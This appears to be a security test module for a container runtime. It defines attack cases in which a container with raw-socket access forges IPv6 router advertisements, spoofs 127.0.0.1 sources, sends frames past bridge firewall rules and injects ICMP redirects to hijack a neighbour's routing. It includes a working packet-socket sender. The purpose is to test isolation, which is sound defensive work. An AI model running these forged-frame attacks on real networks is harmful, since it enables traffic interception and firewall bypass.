/**
 * A container with CAP_NET_RAW, which is a default one, sends frames that no kernel would send in its name. Whether one
 * got through is known without waiting: an honest datagram follows it by the same way.
 */
import { listen, macOf, type Listener } from '../../support/host/forger.ts';
import {
  ALL_NODES,
  echoReply,
  frame,
  ipv4,
  ipv6,
  PORT_ITSELF,
  redirect,
  routerAdvertisement,
  udp,
} from '../../support/host/frames.ts';
import { HOST_ADDRESS, INTERNET_ADDRESS, type Where } from '../../support/host/host.ts';
import type { RunResult } from '../../support/host/processes.ts';
import type { AttackCase, Stage } from '../case.ts';

const PORT = 7777;

export interface Container {
  readonly name: string;
  readonly where: { readonly netns: string };
  readonly address: string;
  /** '' on a network without IPv6. */
  readonly address6: string;
  readonly mac: string;
  readonly gateway: string;
  /** How the host calls the bridge, and its hardware address. */
  readonly bridge: string;
  readonly bridgeMac: string;
  /** Puts frames, in hexadecimal, on its own wire, by a program of its own. */
  send(frames: readonly string[]): Promise<void>;
}

const NO_SOCKET = 'no packet socket for this container';

/** The attacker's program: `eth0 FRAME...`, through a packet socket (packet(7)). */
const SENDER = `
const { dlopen } = require('bun:ffi');
const { closeSync, writeSync } = require('node:fs');
const { symbols: libc } = dlopen('libc.so.6', {
  socket: { args: ['int', 'int', 'int'], returns: 'int' },
  ioctl: { args: ['int', 'u64', 'ptr'], returns: 'int' },
  bind: { args: ['int', 'ptr', 'int'], returns: 'int' },
});
const AF_PACKET = 17, SOCK_RAW = 3, SIOCGIFINDEX = 0x8933;
const [name, ...frames] = process.argv.slice(2);
const socket = libc.socket(AF_PACKET, SOCK_RAW, 0);
if (socket < 0) throw new Error('${NO_SOCKET}');
const request = Buffer.alloc(40);
request.write(name);
if (libc.ioctl(socket, SIOCGIFINDEX, request) !== 0) throw new Error('no ' + name);
const address = Buffer.alloc(20);
address.writeUInt16LE(AF_PACKET, 0);
address.writeInt32LE(request.readInt32LE(16), 4);
if (libc.bind(socket, address, address.length) !== 0) throw new Error('no way to bind to ' + name);
for (const bytes of frames) writeSync(socket, Buffer.from(bytes, 'hex'));
closeSync(socket);
`;

/** Carries out the attack from a container of its own, beside a victim where it needs one. */
export async function withContainers(
  stage: Stage,
  names: readonly string[],
  flags: readonly string[],
  attack: (...containers: readonly Container[]) => Promise<string | undefined>,
): Promise<string | undefined> {
  const image = await stage.image({ files: {} });
  const containers: Container[] = [];
  await must(stage.host.run(['bash', '-c', 'echo 0 | tee /proc/sys/net/ipv4/conf/*/rp_filter']));
  try {
    for (const name of names) containers.push(await start(stage, name, image, flags));
    return await attack(...containers);
  } catch (error) {
    // Root of a user namespace that does not own the network's may send no frames at all.
    if (stage.setting.userns === 'auto' && String(error).includes(NO_SOCKET)) return undefined;
    throw error;
  } finally {
    await must(stage.minidock('rm', '-f', ...names));
  }
}

interface Settings {
  readonly IPAddress: string;
  readonly GlobalIPv6Address: string;
  readonly MacAddress: string;
  readonly Gateway: string;
}

export async function start(
  stage: Stage,
  name: string,
  image: string,
  flags: readonly string[],
): Promise<Container> {
  const program = stage.bun(SENDER);
  const begin = ['run', '-d', '--name', name, ...flags, ...program.flags, image, '/bin/sleep', '100'];
  const id = (await must(stage.minidock(...begin))).trim();
  const [described] = JSON.parse(await must(stage.minidock('inspect', name))) as {
    NetworkSettings: { Networks: Readonly<Record<string, Settings>> };
  }[];
  const [settings] = Object.values(described?.NetworkSettings.Networks ?? {});
  if (settings === undefined) throw new Error('the container is on no network');
  const route = await must(stage.host.run(['ip', '-o', 'route', 'get', settings.IPAddress]));
  const bridge = / dev (\S+)/.exec(route)?.[1] ?? '';
  return {
    name,
    where: { netns: `md-${id.slice(0, 12)}` },
    address: settings.IPAddress,
    address6: settings.GlobalIPv6Address,
    mac: settings.MacAddress,
    gateway: settings.Gateway,
    bridge,
    bridgeMac: await macOf(stage.host, 'host', bridge),
    send: async (frames) => {
      await must(stage.minidock('exec', name, ...program.command, 'eth0', ...frames));
    },
  };
}

export async function must(running: Promise<RunResult>): Promise<string> {
  const { exitCode, stdout, stderr } = await running;
  if (exitCode !== 0) throw new Error(`the attack could not be carried out: ${stderr}`);
  return stdout;
}

/** Sends the frames from the container, and an honest datagram after them, and returns once that was heard. */
export async function sendBefore(
  stage: Stage,
  from: Container,
  frames: readonly Buffer[],
  honest: { readonly mac: string; readonly destination: string; readonly hears: Where },
): Promise<readonly string[]> {
  const listener = await listen(stage.host, honest.hears, PORT);
  const packet = ipv4({ source: from.address, destination: honest.destination }, udp(4000, PORT, 'honest'));
  const all = [...frames, frame({ source: from.mac, destination: honest.mac }, 'ipv4', packet)];
  await from.send(all.map((bytes) => bytes.toString('hex')));
  return heardBefore(listener);
}

async function heardBefore(listener: Listener): Promise<readonly string[]> {
  await listener.heard('honest');
  await listener.close();
  return listener.all().filter((line) => !line.startsWith('honest'));
}

export const toGateway = (from: Container): Parameters<typeof sendBefore>[3] => ({
  mac: from.bridgeMac,
  destination: from.gateway,
  hears: 'host',
});

export const evidence = (lines: readonly string[]): string | undefined =>
  lines.length === 0 ? undefined : lines.join('\n');

export const advertisement = ipv6(
  { source: 'fe80::bad', destination: ALL_NODES.address },
  routerAdvertisement('2001:db8:bad::'),
);
export const ADVERTISED = /2001:db8:bad|fe80::bad/;

const advertiseToHost = (name: string, destination: string, story: string): AttackCase => ({
  name,
  story,
  cves: ['CVE-2020-13401'],
  attack: (stage) =>
    withContainers(stage, [name], [], async (forger) => {
      if (forger === undefined) throw new Error('no container was started');
      const ends = { source: forger.mac, destination };
      await sendBefore(stage, forger, [frame(ends, 'ipv6', advertisement)], toGateway(forger));
      const told = await must(stage.host.run(['bash', '-c', 'ip -6 address; ip -6 route show table all']));
      return evidence(told.split('\n').filter((line) => ADVERTISED.test(line)));
    }),
});

const forgeLoopback = (
  name: string,
  story: string,
  target: { readonly destination: string; readonly hears: Where },
): AttackCase => ({
  name,
  story,
  short: true,
  attack: (stage) =>
    withContainers(stage, [name], [], async (forger) => {
      if (forger === undefined) throw new Error('no container was started');
      // The machine outside takes whatever comes, so that it is seen.
      await must(stage.host.outside(['bash', '-c', 'echo 1 >/proc/sys/net/ipv4/conf/eth0/route_localnet']));
      const forged = ['127.0.0.1', '127.0.0.2'].map((source) =>
        frame(
          { source: forger.mac, destination: forger.bridgeMac },
          'ipv4',
          ipv4({ source, destination: target.destination }, udp(4000, PORT, 'forged')),
        ),
      );
      return evidence(await sendBefore(stage, forger, forged, { ...target, mac: forger.bridgeMac }));
    }),
});

/** Another container of the same network, which the frames are for. */
const attackNeighbour = (
  name: string,
  story: string,
  flags: readonly string[],
  attack: (stage: Stage, forger: Container, victim: Container) => Promise<string | undefined>,
): AttackCase => ({
  name,
  story,
  attack: (stage) =>
    withContainers(stage, [`${name}-forger`, `${name}-victim`], flags, async (forger, victim) => {
      if (forger === undefined || victim === undefined) throw new Error('two containers are needed');
      return attack(stage, forger, victim);
    }),
});

export const networkCases: readonly AttackCase[] = [
  {
    ...advertiseToHost(
      'router-advertisement-to-host',
      ALL_NODES.mac,
      'A container says that it is an IPv6 router, and hopes that the host takes an address and a default route from it.',
    ),
    short: true,
  },
  advertiseToHost(
    'router-advertisement-to-port',
    PORT_ITSELF,
    "A container says the same in a frame for LLDP's address, which the bridge leaves to the host's end of the cable.",
  ),
  forgeLoopback(
    'loopback-source-to-host',
    'A container sends to a service of the host in the name of 127.0.0.1, which many services trust.',
    { destination: HOST_ADDRESS, hears: 'host' },
  ),
  forgeLoopback(
    'loopback-source-to-world',
    'A container sends to the world in the name of 127.0.0.1, by way of the host, which does not masquerade it.',
    { destination: INTERNET_ADDRESS, hears: 'outside' },
  ),
  {
    name: 'packet-past-the-bridge',
    story:
      "A container sends to the host in a frame for LLDP's address, past each firewall rule that names the bridge.",
    attack: (stage) =>
      withContainers(stage, ['packet-past-the-bridge'], [], async (forger) => {
        if (forger === undefined) throw new Error('no container was started');
        const packet = ipv4({ source: forger.address, destination: forger.gateway }, udp(4000, PORT, 'past'));
        const ends = { source: forger.mac, destination: PORT_ITSELF };
        return evidence(await sendBefore(stage, forger, [frame(ends, 'ipv4', packet)], toGateway(forger)));
      }),
  },
  {
    name: 'host-service-by-ipv6',
    story:
      'A container on an IPv4 network speaks IPv6 to a service of the host, past firewall rules for IPv4.',
    attack: (stage) =>
      withContainers(stage, ['host-service-by-ipv6'], [], async (forger) => {
        if (forger === undefined) throw new Error('no container was started');
        const listener = await listen(stage.host, 'host', PORT, '::');
        const packet = ipv6(
          { source: 'fe80::9', destination: ALL_NODES.address },
          udp(4000, PORT, 'by IPv6'),
        );
        const ends = { source: forger.mac, destination: ALL_NODES.mac };
        await sendBefore(stage, forger, [frame(ends, 'ipv6', packet)], toGateway(forger));
        await listener.close();
        return evidence(listener.all());
      }),
  },
  attackNeighbour(
    'router-advertisement-to-neighbour',
    'A container says that it is an IPv6 router to a neighbour that has turned IPv6 on, and hopes to be its gateway.',
    ['--sysctl', 'net.ipv6.conf.all.disable_ipv6=0'],
    async (stage, forger, victim) => {
      const ends = { source: forger.mac, destination: ALL_NODES.mac };
      const honest = { mac: victim.mac, destination: victim.address, hears: victim.where };
      await sendBefore(stage, forger, [frame(ends, 'ipv6', advertisement)], honest);
      const look = ['bash', '-c', 'ip -6 address; ip -6 route show table all'];
      const told = await must(stage.host.inNetns(victim.where.netns, look));
      return evidence(told.split('\n').filter((line) => ADVERTISED.test(line)));
    },
  ),
  attackNeighbour(
    'redirect-to-neighbour',
    "A container sends an ICMP redirect in the gateway's name, and hopes that a neighbour's packets go through it.",
    [],
    async (stage, forger, victim) => {
      const inVictim = (...argv: readonly string[]): Promise<string> =>
        must(stage.host.inNetns(victim.where.netns, argv));
      // A kernel follows a redirect only to a neighbour whose hardware address it knows.
      await must(stage.minidock('exec', victim.name, '/bin/ping', '-c', '1', '-W', '2', forger.address));
      const sent = ipv4({ source: victim.address, destination: INTERNET_ADDRESS }, echoReply());
      const message = ipv4(
        { source: victim.gateway, destination: victim.address },
        redirect(forger.address, sent),
      );
      const ends = { source: forger.mac, destination: victim.mac };
      const honest = { mac: victim.mac, destination: victim.address, hears: victim.where };
      await sendBefore(stage, forger, [frame(ends, 'ipv4', message)], honest);
      const route = await inVictim('ip', 'route', 'get', INTERNET_ADDRESS);
      return route.includes(`via ${forger.address} `) ? route : undefined;
    },
  ),
];
